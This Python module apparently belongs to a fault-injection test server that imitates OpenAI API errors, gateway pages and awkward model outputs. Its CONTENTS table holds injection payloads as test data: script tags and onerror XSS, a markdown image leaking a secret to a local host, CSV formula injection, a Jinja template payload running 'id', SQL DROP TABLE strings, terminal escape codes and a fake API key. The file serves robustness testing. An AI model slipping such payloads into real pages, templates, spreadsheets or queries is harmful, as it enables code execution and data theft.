"""The faults by name, as data: error replies, pages that are not the API, and awkward things a model may say."""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from faultserver.specs import Fault

Json = dict[str, Any]
REQUEST = "invalid_request_error"


@dataclass(frozen=True, slots=True)
class ErrorReply:
    """An error in OpenAI's shape; `{model}`, `{key}` and `{retry_after}` in the message are filled in."""

    status: int
    type: str
    code: str | None
    param: str | None
    message: str


ERRORS = {
    "400": ErrorReply(400, REQUEST, None, None, "We could not parse the JSON body of your request."),
    "unsupported_temperature": ErrorReply(
        400,
        REQUEST,
        "unsupported_value",
        "temperature",
        "Unsupported value: 'temperature' does not support 0.2 with this model. "
        "Only the default (1) value is supported.",
    ),
    "unsupported_parameter": ErrorReply(
        400,
        REQUEST,
        "unsupported_parameter",
        "max_tokens",
        "Unsupported parameter: 'max_tokens' is not supported with this model. Use 'max_completion_tokens' instead.",
    ),
    "refuse_n": ErrorReply(
        400,
        REQUEST,
        "unsupported_parameter",
        "n",
        "Unsupported parameter: 'n' is not supported with this model.",
    ),
    "context_length": ErrorReply(
        400,
        REQUEST,
        "context_length_exceeded",
        "messages",
        "This model's maximum context length is 8192 tokens. However, your messages resulted in 9001 tokens.",
    ),
    "content_policy": ErrorReply(
        400,
        REQUEST,
        "content_policy_violation",
        None,
        "Your request was rejected as a result of our safety system.",
    ),
    "azure_content_filter": ErrorReply(
        400,
        REQUEST,
        "content_filter",
        "prompt",
        "The response was filtered due to the prompt triggering the content management policy.",
    ),
    "401": ErrorReply(
        401,
        REQUEST,
        "invalid_api_key",
        None,
        "Incorrect API key provided: {key}. You can find your API key at https://platform.openai.com/account/api-keys.",
    ),
    "402": ErrorReply(402, "payment_required", None, None, "Insufficient credits. Add more to go on."),
    "403": ErrorReply(
        403,
        "request_forbidden",
        "unsupported_country_region_territory",
        None,
        "Country, region, or territory not supported",
    ),
    "404": ErrorReply(
        404,
        REQUEST,
        "model_not_found",
        None,
        "The model `{model}` does not exist or you do not have access to it.",
    ),
    "408": ErrorReply(408, "timeout", None, None, "Request timed out."),
    "409": ErrorReply(409, "conflict", None, None, "The resource is locked, please retry."),
    "413": ErrorReply(413, REQUEST, "request_too_large", None, "Request too large."),
    "422": ErrorReply(422, REQUEST, None, None, "Unprocessable entity."),
    "429": ErrorReply(
        429,
        "requests",
        "rate_limit_exceeded",
        None,
        "Rate limit reached for {model} in organization org-fault on requests per min (RPM): Limit 60, Used 60, "
        "Requested 1. Please try again in {retry_after}s.",
    ),
    "429_tpm": ErrorReply(
        429,
        "tokens",
        "rate_limit_exceeded",
        None,
        "Rate limit reached for {model} in organization org-fault on tokens per min (TPM): Limit 10000, Used 9800, "
        "Requested 600. Please try again in {retry_after}s.",
    ),
    "slow_down": ErrorReply(
        429,
        "rate_limit_error",
        "slow_down",
        None,
        "Your traffic increased too quickly. Reduce your request rate and increase it gradually.",
    ),
    "insufficient_quota": ErrorReply(
        429,
        "insufficient_quota",
        "insufficient_quota",
        None,
        "You exceeded your current quota, please check your plan and billing details.",
    ),
    "credit_balance_exhausted": ErrorReply(
        429,
        "insufficient_quota",
        "credit_balance_exhausted",
        None,
        "Your organization has no prepaid credits left.",
    ),
    "project_spend_limit_exceeded": ErrorReply(
        429,
        "insufficient_quota",
        "project_spend_limit_exceeded",
        None,
        "The project has reached its spend limit.",
    ),
    "500": ErrorReply(
        500,
        "server_error",
        None,
        None,
        "The server had an error while processing your request. Sorry about that!",
    ),
    "503": ErrorReply(
        503,
        "service_unavailable_error",
        "server_is_overloaded",
        None,
        "The engine is currently overloaded, please try again later.",
    ),
    "529": ErrorReply(529, "overloaded_error", None, None, "Overloaded"),
}

HTML_PAGES = {
    "502_html": (
        502,
        "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n<center><h1>502 Bad Gateway</h1>"
        "</center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n",
    ),
    "504_html": (
        504,
        "<!DOCTYPE html><html><head><title>api.openai.com | 504: Gateway time-out</title></head>"
        "<body><h1>Gateway time-out</h1>Error code 504 cloudflare</body></html>",
    ),
    "captive_portal": (
        200,
        "<html><head><title>Sign in to WiFi</title></head><body><form action=/login></form></body></html>",
    ),
    "proxy_403_html": (
        403,
        "<html><body><h1>403 Forbidden</h1>Corporate proxy: category 'AI' is blocked.</body></html>",
    ),
}

CONTENTS: dict[str, str | Callable[[Fault], str]] = {
    "nul": "before\x00after",
    "lone_surrogate": "half \ud83d of a pair",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f9ff"
    " \ufdfd e\u0301 \u00ef \u00c5 n\u0303",
    "rtl": "abc \u202e\u2066txt.exe\u2069 שלום مرحبا \u200f\u200b",
    "ansi": "\x1b[2J\x1b[31mred\x1b[0m \x1b]0;owned\x07 "
    "\x1b]8;;http://127.0.0.1\x1b\\click\x1b]8;;\x1b\\ \r overwritten",
    "html": '</pre></script><script>window.__pwned=1</script><img src=x onerror="window.__pwned=1">'
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe><style>*{display:none}</style>",
    "markdown": "![x](http://127.0.0.1:9/leak?q=SECRET) [click](javascript:window.__pwned=1) "
    "$\\href{javascript:1}{x}$ <b>b</b>",
    "csv": '=HYPERLINK("http://127.0.0.1:9/","x")\n+1+1\n-1+1\n@SUM(1)\n\t=1+1\r\n"quoted",comma',
    "jinja": "{{ 7*7 }} {% for c in ().__class__.__base__.__subclasses__() %}{% endfor %} "
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "sql": "'); DROP TABLE calls;-- \" OR 1=1 -- NEAR( * ^ : {a b}:c",
    "secret": "your key is sk-proj-" + "A" * 40 + " and Authorization: Bearer abcdef0123456789",
    "newlines": "a\r\nb\rc\u2028d\u2029e\x85f\x0b\x0c",
    "blank": "",
    "spaces": "   \n\t ",
    "bom": "\ufeffstarts with a byte-order mark",
    "huge": lambda fault: ("0123456789abcdef" * (fault.count("size", 1_000_000) // 16 + 1))[
        : fault.count("size", 1_000_000)
    ],
    "long_line": lambda fault: "x" * fault.count("size", 200_000),
    "fences": "```\n````\n```html\n<script>1</script>\n",
    "json_text": '{"a": 1, "b": [1,2,',
}

OTHER_FAULTS = """
    ok slow redirect retry_after_date retry_after_garbage
    close_before reset_before reset_headers hang hang_after_headers drip reset_body close_body
    chunked_truncated stale_keepalive garbage http10 big_header gzip bad_gzip
    served_then_reset served_then_hang
    invalid_json truncated_json empty_body json_null json_list json_string wrong_content_type
    no_content_type invalid_utf8 latin1 utf8_bom nan_json deep_json error_in_200
    empty_choices null_choices missing_choices fewer_choices null_content refusal content_filter
    length tool_calls unknown_finish null_finish no_usage zero_usage string_usage negative_usage
    extra_fields other_model dup_id no_n usage_first_choice
    sse_error sse_truncated sse_reset sse_no_usage sse_bad_json sse_slow sse_split_utf8 sse_pings
    sse_crlf sse_empty sse_no_finish sse_as_json
"""
FAULT_NAMES = sorted([*ERRORS, *HTML_PAGES, *CONTENTS, *OTHER_FAULTS.split()])


def content_of(fault: Fault) -> str | None:
    """Return what the model says under a content fault, None under any other."""
    content = CONTENTS.get(fault.name)
    return content(fault) if callable(content) else content
